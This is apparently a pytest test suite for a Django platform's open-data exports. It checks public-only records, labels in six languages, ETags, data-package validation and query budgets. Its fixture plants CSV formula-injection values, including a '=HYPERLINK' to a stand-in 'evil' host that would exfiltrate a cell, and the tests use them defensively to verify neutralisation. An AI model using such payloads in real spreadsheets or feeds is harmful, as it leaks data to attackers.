"""Open data (docs/open-data.md): the files hold exactly what the public may see, labels beside codes,
formula-safe cells, ETags and 304, a data package the frictionless library accepts, a fixed number
of queries whatever the size, and the pages in six languages."""

import csv
import io
import json
from datetime import UTC, date
from decimal import Decimal

import pytest
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from lxml import etree

from harambee.cooperation import services as cooperation_services
from harambee.cooperation.models import Cooperation, CooperationOrigin
from harambee.events.tests.factories import make_event
from harambee.matching.models import Match
from harambee.matching.services import match_propose
from harambee.opendata import schema
from harambee.postings.services import posting_create
from harambee.postings.validation import parse_posting
from harambee.registry.models import Country, Member, MemberStatus
from harambee.registry.tests.factories import OrganisationFactory, StateFactory

pytestmark = pytest.mark.django_db

LANGUAGES = ["ar", "zh-hans", "en", "fr", "ru", "es"]


def post(member, external_id: str, title: str, *, kind: str, status: str = "published", **extra):
    data = {"id": external_id, "kind": kind, "member": member.code, "title": title, "language": "en",
            "description": f"{title}: a description long enough to be read.", **extra}  # fmt: skip
    return posting_create(actor=None, member=member, data=parse_posting(data), status=status)


def utc(moment) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.fixture
def world(cast):
    """UNZA (Zambia) needs data help with a formula-looking title; Egypt (a State) offers a course;
    a suspended organisation, drafts, a private cooperation and pledge, and a draft event stay hidden."""
    egypt = StateFactory(country=Country.objects.get(iso3="EGY"))
    suspended = OrganisationFactory(code="suspended-org", name="Suspended Org")
    need = post(cast.member, "N-1", '=HYPERLINK("http://evil/?"&A1)', kind="need", themes=["data", "skills"])
    offer = post(egypt, "O-1", "AI course", kind="offer", themes=["skills"], capacity={"seats": 30})
    draft = post(cast.member, "N-DRAFT", "Secret draft need", kind="need")
    post(cast.member, "N-SUB", "Need waiting for review", kind="need", status="submitted")
    post(suspended, "O-SUSPENDED", "Offer of a suspended member", kind="offer")
    type(suspended).objects.filter(pk=suspended.pk).update(status=MemberStatus.SUSPENDED)
    match_propose(need=need, offer=offer, actor=cast.manager)
    match_propose(need=draft, offer=offer, actor=cast.manager)  # its need goes back to draft: never counted
    type(draft).objects.filter(pk=draft.pk).update(status="draft")
    course = Cooperation.objects.create(
        title="AI course for UNZA staff", provider=cast.other_member, beneficiary=cast.member,
        origin=CooperationOrigin.DIRECT, units=Decimal(5), themes=["skills"],
    )  # fmt: skip
    Cooperation.objects.create(
        title="Confidential pilot", provider=egypt, beneficiary=cast.member,
        origin=CooperationOrigin.DIRECT, is_public=False,
    )  # fmt: skip
    seats = cooperation_services.pledge_create(
        member=cast.other_member, actor=cast.other_manager, title="@SUM(1+1) seats", unit="seats",
        value=Decimal(200), period_start=date(2026, 1, 1), period_end=date(2026, 12, 31), theme="skills",
    )  # fmt: skip
    hidden = cooperation_services.pledge_create(
        member=cast.other_member, actor=cast.other_manager, title="Hidden pledge", unit="seats",
        value=Decimal(10), period_start=date(2026, 1, 1), period_end=date(2026, 12, 31),
    )  # fmt: skip
    type(hidden).objects.filter(pk=hidden.pk).update(is_public=False)
    event = make_event(cast.member)
    make_event(cast.member, slug="draft-event", title="Draft event", publish=False)
    return {"egypt": egypt, "need": need, "offer": offer, "course": course, "seats": seats, "event": event}


def fetch(client, path, **headers):
    response = client.get(path, **headers)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body.decode("utf-8")


def csv_rows(client, path) -> list[dict]:
    response, text = fetch(client, path)
    assert response.status_code == 200, text
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------------------------------------------
# What the files hold


def test_needs_csv_holds_exactly_the_public_need_with_labels_beside_codes(client, world):
    need = world["need"]
    need.refresh_from_db()
    # when the needs are fetched in French
    response, text = fetch(client, "/data/needs.csv?lang=fr")
    # then the header is the schema's, and the one public need is there, formula neutralised
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert not text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == schema.BY_NAME["needs"].field_names
    filled = {
        "id": "N-1", "member": "UNZA", "member_name": "University of Zambia", "member_country": "ZMB",
        "title": "'=HYPERLINK(\"http://evil/?\"&A1)", "language": "en", "language_label": "Anglais",
        "status": "published", "status_label": "Publiée", "themes": "data;skills",
        "themes_label": "Données;Compétences et maîtrise de l'IA",
        "published": utc(need.published_at), "updated": utc(need.updated_at),
    }  # fmt: skip
    assert rows[1:] == [[filled.get(name, "") for name in rows[0]]]


def test_every_dataset_holds_only_public_records(client, world, cast):
    # given drafts, a submission, a suspended member, a private cooperation and pledge, a draft event
    # when every dataset is fetched / then only the public records are in it
    codes = [row["code"] for row in csv_rows(client, "/data/members.csv")]
    active = Member.objects.filter(status=MemberStatus.ACTIVE).order_by("code").values_list("code", flat=True)
    assert codes == [code.upper() for code in active] and "SUSPENDED-ORG" not in codes
    assert {"EGY", "TSINGHUA", "UNZA"} <= set(codes)
    assert [row["id"] for row in csv_rows(client, "/data/needs.csv")] == ["N-1"]
    assert [row["id"] for row in csv_rows(client, "/data/offers.csv")] == ["O-1"]
    assert [row["title"] for row in csv_rows(client, "/data/cooperations.csv")] == ["AI course for UNZA staff"]
    assert [row["id"] for row in csv_rows(client, "/data/pledges.csv")] == [str(world["seats"].pk)]
    assert [row["slug"] for row in csv_rows(client, "/data/events.csv")] == ["beijing-2025"]
    text = "".join(fetch(client, f"/data/{name}.{fmt}")[1] for name in schema.BY_NAME for fmt in ("csv", "json"))
    for hidden in ("Secret draft", "waiting for review", "suspended", "Confidential", "Hidden pledge", "Draft event"):
        assert hidden.lower() not in text.lower()
    # and no person: none of the cast's e-mail addresses or names
    assert "@example.org" not in text


def test_members_row_has_names_regions_and_groups(client, world):
    egypt = world["egypt"]
    egypt.refresh_from_db()
    (row,) = [r for r in csv_rows(client, "/data/members.csv?lang=ar") if r["code"] == "EGY"]
    assert row == {
        "code": "EGY", "kind": "state", "kind_label": "دولة", "name": "مصر", "acronym": "", "country": "EGY",
        "country_name": "مصر", "region": "002", "region_name": "أفريقيا", "groups": "G77",
        "organisation_type": "", "organisation_type_label": "", "iati_organisation_type": "10", "iati_ref": "",
        "website": "", "joined": egypt.created_at.date().isoformat(), "updated": utc(egypt.updated_at),
    }  # fmt: skip


def test_matches_are_counted_not_listed(client, world):
    # given one match between public postings and one with a draft need
    rows = csv_rows(client, "/data/matches.csv")
    # then each theme of the public need counts the one match, with no identifier of either side
    assert rows == [
        {"need_country": "ZMB", "need_country_name": "Zambia", "offer_country": "EGY", "offer_country_name": "Egypt",
         "theme": theme, "theme_label": label, "status": "proposed", "status_label": "Proposed", "matches": "1"}
        for theme, label in (("data", "Data"), ("skills", "Skills and AI literacy"))
    ]  # fmt: skip


def test_pledges_show_what_was_delivered(client, world, cast):
    cooperation_services.cooperation_draw_pledge(
        cooperation=world["course"], pledge=world["seats"], actor=cast.other_manager
    )
    (row,) = csv_rows(client, "/data/pledges.csv")
    assert (row["title"], row["unit"], row["unit_label"], row["value"], row["delivered"]) == (
        "'@SUM(1+1) seats", "seats", "Seats", "200.00", "5.00",
    )  # fmt: skip


def test_json_has_the_same_rows_with_numbers_as_numbers(client, world):
    response, text = fetch(client, "/data/offers.json?lang=es")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    (record,) = json.loads(text)
    assert list(record) == schema.BY_NAME["offers"].field_names
    assert (record["title"], record["capacity_unit"], record["capacity_unit_label"], record["capacity_value"]) == (
        "AI course", "seats", "Plazas", 30,
    )  # fmt: skip
    (csv_row,) = csv_rows(client, "/data/offers.csv?lang=es")
    assert {k: str(v) for k, v in record.items()} == {**csv_row, "capacity_value": "30"}


def test_formula_cells_are_neutralised_in_csv_only(client, world):
    _, text = fetch(client, "/data/pledges.csv")
    assert "'@SUM(1+1) seats" in text
    _, text = fetch(client, "/data/pledges.json")
    assert json.loads(text)[0]["title"] == "@SUM(1+1) seats"


def test_bom_on_request_and_bad_language_refused(client, world):
    _, text = fetch(client, "/data/members.csv?bom=1")
    assert text.startswith("\ufeffcode,kind,")
    response, text = fetch(client, "/data/members.csv?lang=xx")
    assert response.status_code == 400 and "ar, zh-hans, en, fr, ru, es" in text
    assert client.get("/data/nothing.csv").status_code == 404
    assert client.get("/data/members.xlsx").status_code == 404
    assert client.post("/data/members.csv").status_code == 405


# ---------------------------------------------------------------------------------------------------
# ETags


def test_etag_and_last_modified_give_304_until_the_data_changes(client, world):
    response, _ = fetch(client, "/data/needs.csv")
    etag, modified = response["ETag"], response["Last-Modified"]
    assert etag.startswith('"v1-needs-csv-en--1-') and "public" in response["Cache-Control"]
    # when asked again with the ETag / then 304 without a body
    again = client.get("/data/needs.csv", HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304 and again["ETag"] == etag and not again.content
    assert client.get("/data/needs.csv", HTTP_IF_MODIFIED_SINCE=modified).status_code == 304
    # and other languages have their own ETag
    assert fetch(client, "/data/needs.csv?lang=fr")[0]["ETag"] != etag
    # when a need is published / then the old ETag no longer holds
    post(world["need"].member, "N-2", "Another need", kind="need")
    changed = client.get("/data/needs.csv", HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200 and changed["ETag"] != etag


def test_datapackage_and_iati_have_etags(client, world):
    response = client.get("/data/datapackage.json")
    assert response.status_code == 200
    assert client.get("/data/datapackage.json", HTTP_IF_NONE_MATCH=response["ETag"]).status_code == 304
    iati = client.get("/data/iati-activities.xml")
    # the file is sent as it is written (a batch of cooperations in memory at a time), one whole document
    assert iati.status_code == 200 and iati.streaming
    content = b"".join(iati.streaming_content)
    assert etree.fromstring(content).tag == "iati-activities"
    assert b"AI course for UNZA staff" in content and b"Confidential" not in content
    assert client.get("/data/iati-activities.xml", HTTP_IF_NONE_MATCH=iati["ETag"]).status_code == 304


def test_with_no_public_cooperation_the_iati_file_says_there_is_none(client):
    # given a platform where nothing is public yet
    # when the IATI file is asked for
    response = client.get("/data/iati-activities.xml")
    # then a clear message (an IATI file holds at least one activity), not an invalid file nor a 500
    assert response.status_code == 404
    assert response.content.decode() == "There is no public cooperation yet, so there is no IATI file to download."


# ---------------------------------------------------------------------------------------------------
# The data package, validated by frictionless against the files themselves


def test_datapackage_validates_against_the_written_files(client, world, tmp_path):
    frictionless = pytest.importorskip("frictionless")
    package = json.loads(client.get("/data/datapackage.json").content)
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert [r["name"] for r in package["resources"]] == [d.name for d in schema.DATASETS]
    for resource in package["resources"]:
        _, text = fetch(client, f"/data/{resource['path']}")
        (tmp_path / resource["path"]).write_text(text, encoding="utf-8")
    (tmp_path / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    members = Member.objects.filter(status=MemberStatus.ACTIVE).count()
    assert [task.stats["rows"] for task in report.tasks] == [members, 1, 1, 2, 1, 1, 1]


def test_the_licence_is_a_setting(client, world):
    licence = {
        "name": "ODbL-1.0",
        "title": "Open Data Commons ODbL",
        "path": "https://opendatacommons.org/licenses/odbl/",
    }
    with override_settings(HARAMBEE_OPEN_DATA_LICENCE=licence):
        package = json.loads(client.get("/data/datapackage.json").content)
        page = client.get("/en/data/").content.decode()
    assert package["licenses"] == [licence]
    assert "Open Data Commons ODbL" in page


# ---------------------------------------------------------------------------------------------------
# Query budget: streaming takes a fixed number of queries


@pytest.mark.parametrize("name", list(schema.BY_NAME))
def test_each_file_takes_the_same_queries_for_one_row_or_many(client, world, cast, name):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response, _ = fetch(client, f"/data/{name}.csv")
        assert response.status_code == 200
        return len([q for q in captured.captured_queries if "django_session" not in q["sql"]])

    before = queries()
    egypt = world["egypt"]
    for i in range(6):
        member = OrganisationFactory(code=f"grow-{i}", name=f"Grown {i}")
        need = post(member, f"N-G{i}", f"Need {i}", kind="need", themes=["data"])
        offer = post(egypt, f"O-G{i}", f"Offer {i}", kind="offer")
        Match.objects.create(need=need, offer=offer, proposer=member, status="accepted")
        Cooperation.objects.create(title=f"C{i}", provider=egypt, beneficiary=member, origin=CooperationOrigin.DIRECT)
        cooperation_services.pledge_create(
            member=member, actor=cast.secretariat, title=f"P{i}", unit="seats", value=Decimal(5),
            period_start=date(2026, 1, 1), period_end=date(2026, 2, 1),
        )  # fmt: skip
        make_event(member, slug=f"event-{i}")
    assert queries() == before <= 4


# ---------------------------------------------------------------------------------------------------
# The pages


@pytest.mark.parametrize("language", LANGUAGES)
def test_pages_in_six_languages_show_labels_not_raw_codes(client, world, language):
    from django.utils import translation

    index = client.get(f"/{language}/data/")
    dictionary = client.get(f"/{language}/data/dictionary/")
    assert index.status_code == dictionary.status_code == 200
    html = dictionary.content.decode()
    with translation.override(language):
        theme_label = str(schema.CODELISTS["theme"][1]["data"])
        title = str(schema.BY_NAME["needs"].title)
    assert theme_label in html and title in html
    assert "_(" not in html and "{{" not in html and "{%" not in html
    suffix = "" if language == "en" else f"?lang={language}"
    assert f'href="/data/needs.csv{suffix}"' in index.content.decode()
    assert f'href="/data/datapackage.json{suffix}"' in html
    # every field of every dataset is described
    for dataset in schema.DATASETS:
        for field in dataset.fields:
            assert f'<code dir="ltr">{field.name.replace("_", "_<wbr>")}</code>' in html


def test_the_footer_links_to_open_data(client, db):
    assert 'href="/en/data/"' in client.get("/en/").content.decode()


@pytest.mark.parametrize("who", ["anonymous", "manager", "secretariat"])
def test_the_files_are_the_same_for_everyone(client, world, cast, who):
    # given someone who may see drafts and private records on the site
    if who != "anonymous":
        client.force_login(cast.user(who))
    # when they fetch the open data / then they get the public records only, like a visitor
    assert [row["id"] for row in csv_rows(client, "/data/needs.csv")] == ["N-1"]
    assert [row["title"] for row in csv_rows(client, "/data/cooperations.csv")] == ["AI course for UNZA staff"]


@pytest.mark.parametrize("path", ["/en/data/", "/en/data/dictionary/", "/data/datapackage.json"])
def test_the_pages_read_nothing_from_the_database(client, db, django_assert_max_num_queries, path):
    with django_assert_max_num_queries(0):
        assert client.get(path).status_code == 200
